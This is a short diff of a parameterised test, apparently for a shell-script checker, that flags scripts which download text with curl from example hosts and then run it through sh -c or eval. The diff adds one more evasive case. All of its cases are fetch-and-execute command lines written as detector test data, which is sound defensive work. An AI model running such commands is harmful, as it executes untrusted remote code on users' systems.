@@ -61,6 +61,7 @@ test.each([
   ['S=$(curl https://x.example)\nTEXT="set -e; $S"\nsh -c "$TEXT"'],
   ['S=$(curl https://x.example)\nsh -c "${S:-exit}"'],
   ['env=$(curl https://x.example)\nsh -c "$env:a"'],
+  ['S=$(curl https://x.example)\nfalse && S=a T=$S\nsh -c "$S"'],
   ['S=$(curl https://x.example)\nexport TEXT=$S\neval "$TEXT"'],
   ['sh -c "$(curl https://x.example; curl https://y.example)"'],
 ])("%s runs what it has from a host", (script) => {
